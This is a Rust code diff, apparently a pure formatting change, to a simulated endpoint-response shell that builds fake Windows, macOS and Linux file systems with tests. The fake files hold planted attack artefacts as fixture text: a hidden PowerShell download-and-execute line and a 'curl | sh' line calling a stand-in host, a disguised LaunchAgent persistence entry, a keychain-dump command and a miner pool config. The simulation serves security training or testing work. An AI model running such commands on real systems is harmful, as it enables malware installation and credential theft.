@@ -37,41 +37,130 @@ fn files(h: &Value) -> Vec<(String, Option<Vec<u8>>)> {
         "Windows" => {
             let home = format!("C:\\Users\\{user}");
             let mut mz = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
-            mz.extend_from_slice(b"This program cannot be run in DOS mode.\r\n falcon-sim sample loader (inert)");
+            mz.extend_from_slice(
+                b"This program cannot be run in DOS mode.\r\n falcon-sim sample loader (inert)",
+            );
             vec![
-                d("C:\\"), d("C:\\Users"), d(&home), d(&format!("{home}\\Desktop")), d(&format!("{home}\\Documents")), d(&format!("{home}\\Downloads")),
-                f(&format!("{home}\\Desktop\\notes.txt"), &format!("Meeting notes for {host}\r\n- rotate service account passwords\r\n- review VPN logs\r\n")),
-                f(&format!("{home}\\Documents\\Q3-report.docx"), "PK\u{3}\u{4} (docx placeholder)"),
+                d("C:\\"),
+                d("C:\\Users"),
+                d(&home),
+                d(&format!("{home}\\Desktop")),
+                d(&format!("{home}\\Documents")),
+                d(&format!("{home}\\Downloads")),
+                f(
+                    &format!("{home}\\Desktop\\notes.txt"),
+                    &format!(
+                        "Meeting notes for {host}\r\n- rotate service account passwords\r\n- review VPN logs\r\n"
+                    ),
+                ),
+                f(
+                    &format!("{home}\\Documents\\Q3-report.docx"),
+                    "PK\u{3}\u{4} (docx placeholder)",
+                ),
                 (format!("{home}\\Downloads\\invoice.exe"), Some(mz)),
-                d("C:\\Users\\Public"), f("C:\\Users\\Public\\sync.bat", "@echo off\r\npowershell -w hidden -c \"iex (iwr http://update-check.badcdn.example/s)\"\r\n"),
-                d("C:\\Windows"), d("C:\\Windows\\System32"), d("C:\\Windows\\System32\\drivers"), d("C:\\Windows\\System32\\drivers\\etc"),
-                f("C:\\Windows\\System32\\drivers\\etc\\hosts", "# Copyright (c) 1993-2009 Microsoft Corp.\r\n127.0.0.1       localhost\r\n::1             localhost\r\n"),
-                d("C:\\Windows\\Temp"), f("C:\\Windows\\Temp\\setup.log", "Setup completed successfully.\r\n"),
-                d("C:\\Program Files"), d("C:\\Program Files\\CrowdStrike"), d("C:\\ProgramData"),
+                d("C:\\Users\\Public"),
+                f(
+                    "C:\\Users\\Public\\sync.bat",
+                    "@echo off\r\npowershell -w hidden -c \"iex (iwr http://update-check.badcdn.example/s)\"\r\n",
+                ),
+                d("C:\\Windows"),
+                d("C:\\Windows\\System32"),
+                d("C:\\Windows\\System32\\drivers"),
+                d("C:\\Windows\\System32\\drivers\\etc"),
+                f(
+                    "C:\\Windows\\System32\\drivers\\etc\\hosts",
+                    "# Copyright (c) 1993-2009 Microsoft Corp.\r\n127.0.0.1       localhost\r\n::1             localhost\r\n",
+                ),
+                d("C:\\Windows\\Temp"),
+                f(
+                    "C:\\Windows\\Temp\\setup.log",
+                    "Setup completed successfully.\r\n",
+                ),
+                d("C:\\Program Files"),
+                d("C:\\Program Files\\CrowdStrike"),
+                d("C:\\ProgramData"),
             ]
         }
         "Mac" => {
             let home = format!("/Users/{user}");
             vec![
-                d("/"), d("/Users"), d(&home), d(&format!("{home}/Downloads")), d(&format!("{home}/Documents")), d(&format!("{home}/Library")), d(&format!("{home}/Library/LaunchAgents")),
-                f(&format!("{home}/Library/LaunchAgents/com.apple.updates.plist"), "<?xml version=\"1.0\"?>\n<plist version=\"1.0\"><dict><key>Label</key><string>com.apple.updates</string><key>ProgramArguments</key><array><string>/tmp/.i.sh</string></array></dict></plist>\n"),
-                f(&format!("{home}/Documents/todo.txt"), "- renew certificates\n- update design system\n"),
-                f(&format!("{home}/.zsh_history"), "ls -la\ncd Downloads\ncurl -s https://api.github.com\nsecurity dump-keychain -d login.keychain-db\n"),
-                d("/Applications"), d("/Applications/Falcon.app"), d("/etc"), f("/etc/hosts", "127.0.0.1\tlocalhost\n255.255.255.255\tbroadcasthost\n::1\tlocalhost\n"),
-                d("/tmp"), f("/tmp/.i.sh", "#!/bin/bash\nlaunchctl load -w ~/Library/LaunchAgents/com.apple.updates.plist\n"),
+                d("/"),
+                d("/Users"),
+                d(&home),
+                d(&format!("{home}/Downloads")),
+                d(&format!("{home}/Documents")),
+                d(&format!("{home}/Library")),
+                d(&format!("{home}/Library/LaunchAgents")),
+                f(
+                    &format!("{home}/Library/LaunchAgents/com.apple.updates.plist"),
+                    "<?xml version=\"1.0\"?>\n<plist version=\"1.0\"><dict><key>Label</key><string>com.apple.updates</string><key>ProgramArguments</key><array><string>/tmp/.i.sh</string></array></dict></plist>\n",
+                ),
+                f(
+                    &format!("{home}/Documents/todo.txt"),
+                    "- renew certificates\n- update design system\n",
+                ),
+                f(
+                    &format!("{home}/.zsh_history"),
+                    "ls -la\ncd Downloads\ncurl -s https://api.github.com\nsecurity dump-keychain -d login.keychain-db\n",
+                ),
+                d("/Applications"),
+                d("/Applications/Falcon.app"),
+                d("/etc"),
+                f(
+                    "/etc/hosts",
+                    "127.0.0.1\tlocalhost\n255.255.255.255\tbroadcasthost\n::1\tlocalhost\n",
+                ),
+                d("/tmp"),
+                f(
+                    "/tmp/.i.sh",
+                    "#!/bin/bash\nlaunchctl load -w ~/Library/LaunchAgents/com.apple.updates.plist\n",
+                ),
             ]
         }
         _ => {
             let home = format!("/home/{user}");
             vec![
-                d("/"), d("/etc"), f("/etc/hostname", &format!("{host}\n")),
+                d("/"),
+                d("/etc"),
+                f("/etc/hostname", &format!("{host}\n")),
                 f("/etc/hosts", &format!("127.0.0.1 localhost\n{ip} {host}\n")),
-                f("/etc/os-release", &format!("NAME=\"{}\"\nPRETTY_NAME=\"{}\"\n", s(h, "os_product_name"), s(h, "os_version"))),
-                f("/etc/passwd", &format!("root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\ndeploy:x:1001:1001::/home/deploy:/bin/bash\n{user}:x:1000:1000::{home}:/bin/bash\n")),
-                d("/home"), d(&home), f(&format!("{home}/.bash_history"), "sudo systemctl status nginx\ntail -f /var/log/nginx/access.log\ncurl -fsSL http://update-check.badcdn.example/i.sh | sh\n"),
-                d("/tmp"), d("/tmp/.x"), f("/tmp/.x/config.json", "{\"pools\":[{\"url\":\"pool.update-check.badcdn.example:443\"}]}\n"),
-                d("/var"), d("/var/log"), f("/var/log/auth.log", &format!("sshd[1123]: Accepted publickey for deploy from 10.1.0.5 port 51514 ssh2\nsudo: {user} : TTY=pts/0 ; PWD={home} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx\n")),
-                d("/root"), d("/opt"), d("/opt/CrowdStrike"),
+                f(
+                    "/etc/os-release",
+                    &format!(
+                        "NAME=\"{}\"\nPRETTY_NAME=\"{}\"\n",
+                        s(h, "os_product_name"),
+                        s(h, "os_version")
+                    ),
+                ),
+                f(
+                    "/etc/passwd",
+                    &format!(
+                        "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\ndeploy:x:1001:1001::/home/deploy:/bin/bash\n{user}:x:1000:1000::{home}:/bin/bash\n"
+                    ),
+                ),
+                d("/home"),
+                d(&home),
+                f(
+                    &format!("{home}/.bash_history"),
+                    "sudo systemctl status nginx\ntail -f /var/log/nginx/access.log\ncurl -fsSL http://update-check.badcdn.example/i.sh | sh\n",
+                ),
+                d("/tmp"),
+                d("/tmp/.x"),
+                f(
+                    "/tmp/.x/config.json",
+                    "{\"pools\":[{\"url\":\"pool.update-check.badcdn.example:443\"}]}\n",
+                ),
+                d("/var"),
+                d("/var/log"),
+                f(
+                    "/var/log/auth.log",
+                    &format!(
+                        "sshd[1123]: Accepted publickey for deploy from 10.1.0.5 port 51514 ssh2\nsudo: {user} : TTY=pts/0 ; PWD={home} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx\n"
+                    ),
+                ),
+                d("/root"),
+                d("/opt"),
+                d("/opt/CrowdStrike"),
             ]
         }
     }
@@ -85,16 +174,28 @@ fn norm(h: &Value, p: &str) -> String {
     if is_windows(h) {
         let p = p.replace('/', "\\");
         let p = p.trim_end_matches('\\');
-        if p.len() == 2 && p.ends_with(':') { format!("{p}\\") } else { p.to_string() }
+        if p.len() == 2 && p.ends_with(':') {
+            format!("{p}\\")
+        } else {
+            p.to_string()
+        }
     } else {
         let p = p.trim_end_matches('/');
-        if p.is_empty() { "/".into() } else { p.to_string() }
+        if p.is_empty() {
+            "/".into()
+        } else {
+            p.to_string()
+        }
     }
 }
 
 fn resolve(h: &Value, cwd: &str, arg: &str) -> String {
     let arg = arg.trim_matches('"').trim_matches('\'');
-    let absolute = if is_windows(h) { arg.len() >= 2 && arg.as_bytes()[1] == b':' } else { arg.starts_with('/') };
+    let absolute = if is_windows(h) {
+        arg.len() >= 2 && arg.as_bytes()[1] == b':'
+    } else {
+        arg.starts_with('/')
+    };
     if arg.is_empty() {
         return norm(h, cwd);
     }
@@ -102,7 +203,11 @@ fn resolve(h: &Value, cwd: &str, arg: &str) -> String {
         return norm(h, arg);
     }
     let sep = if is_windows(h) { "\\" } else { "/" };
-    let mut parts: Vec<String> = norm(h, cwd).split(sep).filter(|x| !x.is_empty()).map(String::from).collect();
+    let mut parts: Vec<String> = norm(h, cwd)
+        .split(sep)
+        .filter(|x| !x.is_empty())
+        .map(String::from)
+        .collect();
     for seg in arg.split(['\\', '/']) {
         match seg {
             "" | "." => {}
@@ -114,18 +219,34 @@ fn resolve(h: &Value, cwd: &str, arg: &str) -> String {
             x => parts.push(x.to_string()),
         }
     }
-    if is_windows(h) { norm(h, &format!("{}\\", parts.join("\\"))) } else { format!("/{}", parts.join("/")) }
+    if is_windows(h) {
+        norm(h, &format!("{}\\", parts.join("\\")))
+    } else {
+        format!("/{}", parts.join("/"))
+    }
 }
 
 fn same(h: &Value, a: &str, b: &str) -> bool {
-    if is_windows(h) { a.eq_ignore_ascii_case(b) } else { a == b }
+    if is_windows(h) {
+        a.eq_ignore_ascii_case(b)
+    } else {
+        a == b
+    }
 }
 
-fn find<'a>(h: &Value, fs: &'a [(String, Option<Vec<u8>>)], path: &str) -> Option<&'a (String, Option<Vec<u8>>)> {
+fn find<'a>(
+    h: &Value,
+    fs: &'a [(String, Option<Vec<u8>>)],
+    path: &str,
+) -> Option<&'a (String, Option<Vec<u8>>)> {
     fs.iter().find(|(p, _)| same(h, p, path))
 }
 
-fn children<'a>(h: &Value, fs: &'a [(String, Option<Vec<u8>>)], dir: &str) -> Vec<&'a (String, Option<Vec<u8>>)> {
+fn children<'a>(
+    h: &Value,
+    fs: &'a [(String, Option<Vec<u8>>)],
+    dir: &str,
+) -> Vec<&'a (String, Option<Vec<u8>>)> {
     let sep = if is_windows(h) { '\\' } else { '/' };
     fs.iter()
         .filter(|(p, _)| {
@@ -161,7 +282,11 @@ fn args(cmd: &str) -> Vec<String> {
 }
 
 fn not_found(h: &Value, path: &str) -> String {
-    if is_windows(h) { format!("Cannot find path '{path}' because it does not exist.") } else { format!("{path}: No such file or directory") }
+    if is_windows(h) {
+        format!("Cannot find path '{path}' because it does not exist.")
+    } else {
+        format!("{path}: No such file or directory")
+    }
 }
 
 /// Default working directory of a new session.
@@ -182,7 +307,11 @@ pub(crate) fn run(h: &Value, cwd: &str, base: &str, command_string: &str) -> Out
     let host = s(h, "hostname");
     let user = user_of(h);
     let mut o = Output::default();
-    let first_path = rest.iter().find(|x| !x.starts_with('-')).copied().unwrap_or("");
+    let first_path = rest
+        .iter()
+        .find(|x| !x.starts_with('-'))
+        .copied()
+        .unwrap_or("");
     match base {
         "ls" | "dir" => {
             let path = resolve(h, cwd, first_path);
@@ -368,16 +497,34 @@ mod tests {
     fn windows_ls_cd_cat_get() {
         let h = win();
         let o = run(&h, "C:\\", "ls", "ls C:\\Users\\jdoe");
-        assert!(o.stdout.contains("Downloads") && o.stdout.contains("<Directory>"), "{}", o.stdout);
+        assert!(
+            o.stdout.contains("Downloads") && o.stdout.contains("<Directory>"),
+            "{}",
+            o.stdout
+        );
         let o = run(&h, "C:\\", "cd", "cd Users\\jdoe\\Desktop");
         assert_eq!(o.cwd.as_deref(), Some("C:\\Users\\jdoe\\Desktop"));
         let o = run(&h, "C:\\Users\\jdoe\\Desktop", "cat", "cat notes.txt");
         assert!(o.stdout.contains("Meeting notes"));
-        let o = run(&h, "C:\\", "get", "get C:\\Users\\jdoe\\Downloads\\invoice.exe");
+        let o = run(
+            &h,
+            "C:\\",
+            "get",
+            "get C:\\Users\\jdoe\\Downloads\\invoice.exe",
+        );
         assert!(o.file.is_some_and(|(_, b)| b.starts_with(b"MZ")));
         let o = run(&h, "C:\\", "ls", "ls C:\\nope");
         assert!(o.stderr.contains("does not exist"));
-        assert!(run(&h, "C:\\", "reg", "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run").stdout.contains("sync.bat"));
+        assert!(
+            run(
+                &h,
+                "C:\\",
+                "reg",
+                "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
+            )
+            .stdout
+            .contains("sync.bat")
+        );
     }
 
     #[test]
@@ -387,7 +534,15 @@ mod tests {
         assert!(o.stdout.contains("passwd"), "{}", o.stdout);
         let o = run(&h, "/etc", "cd", "cd ..");
         assert_eq!(o.cwd.as_deref(), Some("/"));
-        assert!(run(&h, "/", "cat", "cat /etc/hostname").stdout.contains("lnx-web-01"));
-        assert!(run(&h, "/", "reg", "reg query HKLM").stderr.contains("only supported on Windows"));
+        assert!(
+            run(&h, "/", "cat", "cat /etc/hostname")
+                .stdout
+                .contains("lnx-web-01")
+        );
+        assert!(
+            run(&h, "/", "reg", "reg query HKLM")
+                .stderr
+                .contains("only supported on Windows")
+        );
     }
 }
